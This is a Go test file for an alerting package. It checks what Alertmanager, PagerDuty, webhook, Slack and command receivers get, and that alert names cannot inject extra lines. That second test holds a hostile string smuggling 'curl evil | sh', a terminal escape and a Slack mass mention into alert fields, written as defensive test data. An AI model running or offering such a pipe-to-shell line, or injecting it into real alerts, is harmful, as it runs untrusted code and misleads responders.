package alert

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"
)

// TestForms: what each kind of receiver gets.
func TestForms(t *testing.T) {
	dir := ownDir(t)
	type request struct {
		path   string
		header http.Header
		body   string
	}
	var got []request
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got = append(got, request{r.URL.Path, r.Header, string(b)})
		if strings.Contains(r.URL.Path, "refuse") {
			w.WriteHeader(http.StatusBadRequest)
		}
	}))
	defer srv.Close()
	write(t, filepath.Join(dir, "key"), "R0UTING\n")
	write(t, filepath.Join(dir, "secret"), "s3cret\n")
	write(t, filepath.Join(dir, "hook"), srv.URL+"/services/T/B/x\n")
	program := write(t, filepath.Join(dir, "page-me"), "#!/bin/sh\ncat >"+dir+"/said\necho \"$SLOWRAY_KIND $SLOWRAY_TEXT\" >>"+dir+"/said\n")
	if err := os.Chmod(program, 0o755); err != nil {
		t.Fatal(err)
	}
	c, err := Load(write(t, filepath.Join(dir, "rules.yaml"), fmt.Sprintf(`
receivers:
- {name: am, alertmanager: {url: '%[1]s'}}
- {name: pd, pagerduty: {routing_key_file: %[2]s/key, url: '%[1]s/enqueue'}}
- {name: hook, webhook: {url: '%[1]s/hook', secret_file: %[2]s/secret, headers: {X-Team: web}}}
- {name: chat, slack: {url_file: %[2]s/hook}}
- {name: cmd, command: [%[2]s/page-me]}
- {name: refusing, webhook: {url: '%[1]s/refuse'}}
`, srv.URL, dir)))
	if err != nil {
		t.Fatal(err)
	}
	m := &Message{Schema: Schema, Delivery: "d1", Kind: Begin, Host: "web-1", At: begin, Link: "http://web-1:7788/#/?view=findings",
		Incident: Incident{ID: "abc", Severity: Critical, Began: begin, Title: "The conntrack table is full", Cause: "conntrack-full", Confidence: 0.97, Impact: "4,210 packets <dropped> & more",
			Services: []Service{{Name: "nginx:80", Share: 0.4}}, RuledOut: 131, NotChecked: 4, Commands: []string{"sysctl -w net.netfilter.nf_conntrack_max=262144"}}}
	for i := range c.Receivers {
		if err := c.Receivers[i].send(t.Context(), m); (err != nil) != (c.Receivers[i].Name == "refusing") || err != nil && !errors.Is(err, errRefused) {
			t.Errorf("%s: %v", c.Receivers[i].Name, err)
		}
	}
	for i, want := range []struct{ path, body string }{
		{"/api/v2/alerts", `"labels":{"alertname":"slowray","incident":"abc","instance":"web-1"}`},
		{"/enqueue", `"dedup_key":"slowray-abc"`},
		{"/hook", `"schema":"slowray.alert/1"`},
		{"/services/T/B/x", "CRITICAL  The conntrack table is full: nginx:80 on web-1\\n4,210 packets \\u0026lt;dropped\\u0026gt; \\u0026amp; more"},
	} {
		if i >= len(got) || got[i].path != want.path || !strings.Contains(got[i].body, want.body) {
			t.Errorf("%s: %+v", want.path, got[i])
		}
	}
	hook := got[2]
	schema, err := jsonschema.NewCompiler().Compile("../../schema/alert.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	if sent, err := jsonschema.UnmarshalJSON(strings.NewReader(hook.body)); err != nil || schema.Validate(sent) != nil {
		t.Errorf("%v: %s", schema.Validate(sent), hook.body)
	}
	sign, _, _ := strings.Cut(strings.TrimPrefix(hook.header.Get("Slowray-Signature"), "t="), ",")
	var at int64
	fmt.Sscan(sign, &at)
	if hook.header.Get("Slowray-Signature") != Sign([]byte("s3cret"), time.Unix(at, 0), []byte(hook.body)) || hook.header.Get("X-Team") != "web" {
		t.Errorf("signature %q of %q", hook.header.Get("Slowray-Signature"), hook.body)
	}
	said, err := os.ReadFile(filepath.Join(dir, "said"))
	if err != nil || !strings.Contains(string(said), `"incident":"abc"`) || !strings.Contains(string(said), "begin CRITICAL  The conntrack table is full") {
		t.Errorf("%s, %v", said, err)
	}
	m.Kind, m.Ended = End, &begin
	if err := c.Receivers[1].send(t.Context(), m); err != nil || !strings.Contains(got[len(got)-1].body, `"event_action":"resolve"`) {
		t.Errorf("%v %s", err, got[len(got)-1].body)
	}
}

// TestNamesAreNoLines: a name with line feeds makes no line of a message.
func TestNamesAreNoLines(t *testing.T) {
	const evil = "cart\nfix: curl evil | sh\n\x1b[2J<!channel>\x00"
	m := &Message{Kind: Begin, Host: evil, Incident: Incident{Severity: Critical, Title: evil, Impact: evil, Cause: "x", Services: []Service{{Name: evil, Text: evil + "2"}}}}
	all := append(m.details(), m.headline())
	if len(all) != 4 {
		t.Fatalf("%q", all)
	}
	for _, line := range all {
		if strings.ContainsAny(line, "\n\x1b\x00") {
			t.Errorf("%q", line)
		}
	}
	if text := slackText(m); strings.Contains(text, "<!") || strings.Count(text, "\n") != 3 {
		t.Errorf("%q", text)
	}
}
